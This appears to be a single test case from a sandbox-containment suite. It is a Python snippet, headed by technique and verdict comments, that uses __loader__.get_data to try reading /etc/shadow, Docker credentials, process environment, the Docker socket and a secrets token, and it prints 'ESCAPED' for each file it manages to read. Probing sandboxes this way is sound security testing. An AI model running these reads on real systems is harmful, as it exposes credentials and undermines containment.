# technique: the loader of the main module reads any file: __loader__.get_data
# source: CPython docs: importlib.abc.ResourceLoader
# verdict: WA
# invariant: only files that are in the image or public can be read
# without: seccomp capabilities network read_only_root
for path in ("/etc/shadow", "/root/.docker/config.json", "/proc/1/environ", "/proc/1/maps", "/var/run/docker.sock", "/run/secrets/token"):
    try:
        print("ESCAPED", path, __loader__.get_data(path)[:500])
    except OSError as refused:
        print("held", refused)
